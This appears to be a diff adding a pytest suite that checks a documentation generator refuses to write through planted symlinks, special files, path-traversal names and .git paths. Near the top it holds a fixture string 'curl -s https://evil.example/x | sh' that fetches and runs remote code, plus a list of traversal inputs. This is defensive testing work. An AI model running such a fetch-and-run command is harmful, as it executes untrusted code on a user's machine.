@@ -1,0 +1,227 @@
+"""A repository that commits links, folders and look-alikes where docs go: nothing outside its docs folder changes."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import stat
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from rotary_batch.errors import InputError
+from rotary_batch.pages.descriptors import BlockedError
+from rotary_batch.pages.files import Projection, project
+from rotary_batch.pages.safe_folder import open_safe_folder
+
+COMMAND = "curl -s https://evil.example/x | sh"
+CODE = {
+    "src/box.py": f'"""\n{COMMAND}\n"""\n\n\ndef put(thing):\n    """{COMMAND}"""\n    return thing\n',
+    "lib/wrap.py": "def wrap(thing):\n    return [thing]\n",
+    "top.py": f'"""{COMMAND}"""\n',
+}
+
+
+def rotary(*arguments: object, home: Path) -> subprocess.CompletedProcess[str]:
+    command = [sys.executable, "-m", "rotary_batch.cli", *map(str, arguments)]
+    return subprocess.run(command, capture_output=True, text=True, env=os.environ | {"HOME": str(home)}, timeout=250)
+
+
+def snapshot(folder: Path, *, without: Path | None = None) -> dict[str, tuple[object, ...]]:
+    """Everything below a folder, links as links."""
+    found = {}
+    for path in sorted(folder.rglob("*")):
+        if without is None or (path != without and without not in path.parents):
+            info = path.lstat()
+            content = path.readlink() if path.is_symlink() else path.read_bytes() if path.is_file() else None
+            found[str(path)] = (stat.filemode(info.st_mode), info.st_ino, info.st_mtime_ns * path.is_file(), content)
+    return found
+
+
+@pytest.fixture
+def home(tmp_path) -> Path:
+    """A home with what an attacker would like to change."""
+    folder = tmp_path / "victim"
+    (folder / "bin").mkdir(parents=True)
+    (folder / ".bashrc").write_text("# mine\n")
+    (folder / "bin" / "index.md").write_text("mine\n")
+    return folder
+
+
+def test_committed_links_in_the_docs_folder_are_never_written_through(make_repository, git, home):
+    root = make_repository(CODE)
+    docs = root / "rotary-docs"
+    docs.mkdir()
+    bashrc = home / ".bashrc"
+    names = [
+        f"{name}{end}" for name in ("llms.txt", "index.md", "top.py.md") for end in ("", ".rotary-tmp", ".rotary-new")
+    ]
+    for name in names:
+        (docs / name).symlink_to(bashrc)
+    for name in ("src", ".mkdocs"):
+        (docs / name).symlink_to(home / "bin", target_is_directory=True)
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "attack")
+    before = snapshot(home), snapshot(root, without=docs)
+
+    done = rotary("run", root, "--json", home=home)
+    (outcome,) = json.loads(done.stdout)
+    assert (done.returncode, outcome["outcome"], outcome["open"]) == (0, "done", 0), done.stderr
+    assert (snapshot(home), snapshot(root, without=docs)) == before
+    blocked = {".mkdocs/mkdocs.yml", "index.md", "llms.txt", "src/box.py.md", "src/index.md", "top.py.md"}
+    assert {page for page, _ in outcome["pages_failed"]} == blocked
+    assert all("a symbolic link" in reason for _, reason in outcome["pages_failed"])
+    assert {str(path.relative_to(docs)) for path in docs.rglob("*") if path.is_file() and not path.is_symlink()} == {
+        "lib/index.md", "lib/wrap.py.md",
+    }  # fmt: skip
+    assert all((docs / name).is_symlink() for name in (*names, "src", ".mkdocs"))
+    report = next(Path(os.environ["XDG_STATE_HOME"]).rglob("*.md")).read_text()
+    assert all(f"| not written | {page.replace('_', chr(92) + '_')}: " in report for page in blocked)
+
+    drift = json.loads(rotary("check", root, "--json", home=home).stdout)
+    assert set(drift["blocked"]) == {page for page in blocked if page.endswith(".md")}
+    assert "a symbolic link" in rotary("render", root, "--accept", "ours", "index.md", home=home).stderr
+    assert "a symbolic link" in rotary("render", root, "--accept", "theirs", "src/index.md", home=home).stderr
+    assert (snapshot(home), snapshot(root, without=docs)) == before
+
+
+@pytest.mark.parametrize(
+    ("link", "out"), [("rotary-docs", "rotary-docs"), ("docs", "docs/api"), ("docs/api", "docs/api"), ("docs", "{root}/docs/api")]
+)  # fmt: skip
+def test_a_docs_folder_that_a_link_leads_to_is_refused(link, out, make_repository, git, home):
+    root = make_repository(CODE)
+    (root / link).parent.mkdir(exist_ok=True)
+    (root / link).symlink_to(home, target_is_directory=True)
+    before = snapshot(home), snapshot(root)
+    for create in (True, False):
+        with pytest.raises(InputError, match="a symbolic link, not a folder; docs go into real folders only"):
+            open_safe_folder(root, out.format(root=root), create=create)
+    assert (snapshot(home), snapshot(root)) == before
+    if link == "rotary-docs":
+        for command in ("index", "check"):
+            done = rotary(command, root, home=home)
+            assert (done.returncode, "a symbolic link" in done.stderr, done.stderr.count("\n")) == (3, True, 1)
+        assert (snapshot(home), snapshot(root)) == before
+
+
+def test_a_repository_whose_own_folder_became_a_link_is_refused(tmp_path, home):
+    (tmp_path / "a" / "b").mkdir(parents=True)
+    (tmp_path / "a" / "b").rmdir()
+    (tmp_path / "a" / "b").symlink_to(home)
+    with pytest.raises(InputError, match="a symbolic link"):
+        open_safe_folder(tmp_path / "a" / "b", "rotary-docs", create=True)
+    assert not (home / "rotary-docs").exists()
+
+
+def test_links_of_the_user_above_an_absolute_docs_folder_are_followed(tmp_path):
+    (tmp_path / "repo").mkdir()
+    (tmp_path / "real").mkdir()
+    (tmp_path / "short").symlink_to(tmp_path / "real")
+    with open_safe_folder(tmp_path / "repo", f"{tmp_path}/short/new/docs", create=True) as folder:
+        project(folder, [("a/b.md", b"x")], Projection())
+    assert (tmp_path / "real" / "new" / "docs" / "a" / "b.md").read_bytes() == b"x"
+    with pytest.raises(InputError, match="a symbolic link"):
+        open_safe_folder(tmp_path / "repo", f"{tmp_path}/short", create=True)
+    for out in (f"{tmp_path}/repo", ".", "", "docs/../x", ".git", ".GIT/hooks", "docs/.git/x", "/"):
+        with pytest.raises(InputError, match="folder of their own"):
+            open_safe_folder(tmp_path / "repo", out, create=True)
+    assert list((tmp_path / "repo").iterdir()) == []
+
+
+def put_in_the_way(kind: str, place: Path, elsewhere: Path) -> None:
+    if kind == "folder":
+        place.mkdir()
+    elif kind == "pipe":
+        os.mkfifo(place)
+    elif kind == "socket":
+        with socket.socket(socket.AF_UNIX) as listener:
+            listener.bind(str(place))
+    elif kind == "device":
+        os.mknod(place, stat.S_IFCHR | 0o666, os.makedev(1, 3))
+    elif kind == "link":
+        place.symlink_to(elsewhere)
+    elif kind == "dangling link":
+        place.symlink_to(elsewhere.parent / "new")
+    elif kind == "huge file":
+        with place.open("wb") as file:
+            file.truncate(5 * 10**9)
+
+
+KINDS = ["folder", "pipe", "socket", "link", "dangling link", "huge file"] + ["device"] * (os.geteuid() == 0)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("name", ["b.md", "b.md.rotary-new", "sub", "llms.txt", ".mkdocs"])
+def test_what_is_in_the_place_of_a_page_makes_that_page_fail_alone(kind, name, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)  # a socket's path is short
+    (tmp_path / "outside.txt").write_text("mine")
+    (tmp_path / "d").mkdir()
+    pages = dict.fromkeys(("a.md", "b.md", "sub/c.md", "llms.txt", ".mkdocs/mkdocs.yml", "z.md"), b"new")
+    if name.endswith(".rotary-new"):
+        (tmp_path / "d" / "b.md").write_text("a person's")
+    place = tmp_path / "d" / name
+    put_in_the_way(kind, Path("d") / name, tmp_path / "outside.txt")
+    info, done = place.lstat(), Projection()
+    with open_safe_folder(tmp_path, "d", create=True) as folder:
+        project(folder, pages.items(), done)
+        list(folder.walk())
+    page = name.removesuffix(".rotary-new")
+    if kind == "folder" and name in {"sub", ".mkdocs"}:
+        assert (done.failed, sorted(done.written)) == ([], sorted(pages))
+        return
+    (failed,) = {path for path in pages if path == page or path.startswith(page + "/")}
+    assert [failure.page for failure in done.failed] == [failed]
+    assert sorted(done.written) == sorted(set(pages) - {failed})
+    assert (place.lstat().st_ino, place.lstat().st_mode, place.lstat().st_size) == (
+        info.st_ino,
+        info.st_mode,
+        info.st_size,
+    )
+    assert {path.name for path in tmp_path.iterdir()} == {"outside.txt", "d"}
+    assert (tmp_path / "outside.txt").read_text() == "mine"
+
+
+def test_a_hard_link_keeps_its_bytes(tmp_path):
+    (tmp_path / "outside.txt").write_text("<!-- rotary-batch wrote this -->")
+    (tmp_path / "d").mkdir()
+    (tmp_path / "d" / "llms.txt").hardlink_to(tmp_path / "outside.txt")
+    done = Projection()
+    with open_safe_folder(tmp_path, "d", create=True) as folder:
+        project(folder, [("llms.txt", b"new")], done)
+    assert (done.written, (tmp_path / "outside.txt").read_text()) == (["llms.txt"], "<!-- rotary-batch wrote this -->")
+    assert (tmp_path / "d" / "llms.txt").read_bytes() == b"new"
+
+
+@pytest.mark.parametrize(
+    "path", ["../x.md", "a/../../x.md", "/etc/x.md", "a//x.md", "./x.md", ".git/hooks/post-checkout", "a/.Git/x.md", ".g\u200cit/x.md", "", "a\0b.md",
+             "lone\udcffname\ud800.md", "n" * 300 + ".md"]
+)  # fmt: skip
+def test_no_name_of_a_page_leads_out_of_the_folder_or_into_git(path, tmp_path):
+    (tmp_path / "d").mkdir()
+    done = Projection()
+    with open_safe_folder(tmp_path, "d", create=True) as folder:
+        project(folder, [(path, b"x"), ("good.md", b"y")], done)
+        for call in (folder.read, folder.remove):
+            with pytest.raises(BlockedError):
+                call(path)
+    assert ([failure.page for failure in done.failed], done.written) == ([path], ["good.md"])
+    assert [str(found.relative_to(tmp_path)) for found in tmp_path.rglob("*")] == ["d", "d/good.md"]
+
+
+def test_a_disk_that_refuses_ends_everything_and_leaves_no_temporary(tmp_path, monkeypatch):
+    """ENOSPC is no fault of one page."""
+    from rotary_batch.errors import StorageError
+
+    calls = iter(range(100))
+
+    def full(_descriptor):
+        if next(calls) == 2:
+            raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(os, "fsync", full)
+    with open_safe_folder(tmp_path, "d", create=True) as folder, pytest.raises(StorageError, match="free some space"):
+        project(folder, [(f"{n}.md", b"x") for n in range(5)], Projection())
+    assert list((tmp_path / "d").iterdir()) == []
